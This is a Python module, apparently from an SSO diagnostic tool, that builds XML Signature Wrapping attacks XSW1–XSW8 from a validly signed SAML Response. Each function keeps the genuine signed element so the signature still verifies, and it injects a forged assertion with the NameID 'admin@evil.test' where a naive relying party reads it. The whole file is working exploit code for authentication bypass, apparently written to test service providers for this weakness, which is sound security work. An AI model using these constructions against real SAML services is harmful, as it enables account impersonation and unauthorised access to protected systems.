"""XML Signature Wrapping variants XSW1-XSW8, built from a validly signed Response.

The constructions follow SAML Raider's XSWHelpers (src/main/java/helpers/XSWHelpers.java in
CompassSecurity/SAMLRaider; Somorovsky et al., USENIX Security 2012). Each one keeps the genuine signed element
somewhere in the document, so the signature still verifies cryptographically, and puts attacker data (NameID
``EVIL_NAME_ID``) where a naive relying party reads it.
XSW1-2 need a Response-level signature, XSW3-8 an Assertion-level one (``SIGNED_WHAT``).
"""
from __future__ import annotations

import copy
from collections.abc import Callable

from lxml import etree

from ssodiag.diag.xmlparse import NS, parse_xml

EVIL_NAME_ID = "admin@evil.test"
EVIL_ID = "_evil"
DS_SIGNATURE = f"{{{NS['ds']}}}Signature"


def _evil(element: etree._Element, new_id: str = EVIL_ID) -> etree._Element:
    """A copy of ``element`` without its own signature, with a new ID and the attacker's NameID."""
    clone = copy.deepcopy(element)
    for signature in clone.findall("ds:Signature", NS):
        clone.remove(signature)
    clone.set("ID", new_id)
    for name_id in clone.iter(f"{{{NS['saml']}}}NameID"):
        name_id.text = EVIL_NAME_ID
    return clone


def _parts(xml: bytes) -> tuple[etree._Element, etree._Element, etree._Element]:
    root = parse_xml(xml)
    assertion = root.find("saml:Assertion", NS)
    signature = (assertion if assertion is not None and assertion.find("ds:Signature", NS) is not None
                 else root).find("ds:Signature", NS)
    return root, assertion, signature


def xsw1(xml: bytes) -> bytes:
    """Unsigned clone of the Response inside the original Signature; the root Response becomes the evil one."""
    root, _assertion, signature = _parts(xml)
    original = copy.deepcopy(root)
    original.remove(original.find("ds:Signature", NS))
    signature.append(original)
    evil_root_data(root)
    return etree.tostring(root)


def xsw2(xml: bytes) -> bytes:
    """As XSW1, but the clone sits before the Signature as a detached sibling."""
    root, _assertion, signature = _parts(xml)
    original = copy.deepcopy(root)
    original.remove(original.find("ds:Signature", NS))
    signature.addprevious(original)
    evil_root_data(root)
    return etree.tostring(root)


def evil_root_data(root: etree._Element) -> None:
    """The root Response gets an evil ID and its (direct) assertion the attacker's NameID."""
    root.set("ID", EVIL_ID)
    for name_id in root.findall("saml:Assertion/saml:Subject/saml:NameID", NS):
        name_id.text = EVIL_NAME_ID


def xsw3(xml: bytes) -> bytes:
    """Evil assertion (new ID, no signature) inserted before the signed one."""
    root, assertion, _signature = _parts(xml)
    assertion.addprevious(_evil(assertion))
    return etree.tostring(root)


def xsw4(xml: bytes) -> bytes:
    """Evil assertion appended to the Response, with the signed original moved inside it."""
    root, assertion, _signature = _parts(xml)
    evil = _evil(assertion)
    root.append(evil)
    evil.append(assertion)  # moves it
    return etree.tostring(root)


def xsw5(xml: bytes) -> bytes:
    """The signed assertion gets the evil ID and data, keeps its Signature; an unsigned true copy is appended."""
    root, assertion, _signature = _parts(xml)
    true_copy = copy.deepcopy(assertion)
    true_copy.remove(true_copy.find("ds:Signature", NS))
    assertion.set("ID", EVIL_ID)
    assertion.find("saml:Subject/saml:NameID", NS).text = EVIL_NAME_ID
    root.append(true_copy)
    return etree.tostring(root)


def xsw6(xml: bytes) -> bytes:
    """The signed assertion gets the evil ID and data; the unsigned true copy hides inside its Signature."""
    root, assertion, signature = _parts(xml)
    true_copy = copy.deepcopy(assertion)
    true_copy.remove(true_copy.find("ds:Signature", NS))
    assertion.set("ID", EVIL_ID)
    assertion.find("saml:Subject/saml:NameID", NS).text = EVIL_NAME_ID
    signature.append(true_copy)
    return etree.tostring(root)


def xsw7(xml: bytes) -> bytes:
    """An samlp:Extensions holding an unsigned evil clone, inserted before the signed assertion."""
    root, assertion, _signature = _parts(xml)
    extensions = etree.Element(f"{{{NS['samlp']}}}Extensions")
    extensions.append(_evil(assertion, new_id=assertion.get("ID")))
    assertion.addprevious(extensions)
    return etree.tostring(root)


def xsw8(xml: bytes) -> bytes:
    """An unsigned evil copy in a ds:Object inside the original Signature."""
    root, assertion, signature = _parts(xml)
    holder = etree.SubElement(signature, f"{{{NS['ds']}}}Object")
    holder.append(_evil(assertion, new_id=assertion.get("ID")))
    return etree.tostring(root)


VARIANTS: dict[str, Callable[[bytes], bytes]] = {
    "XSW1": xsw1, "XSW2": xsw2, "XSW3": xsw3, "XSW4": xsw4,
    "XSW5": xsw5, "XSW6": xsw6, "XSW7": xsw7, "XSW8": xsw8,
}
SIGNED_WHAT = {"XSW1": "response", "XSW2": "response", "XSW3": "assertion", "XSW4": "assertion",
               "XSW5": "assertion", "XSW6": "assertion", "XSW7": "assertion", "XSW8": "assertion"}
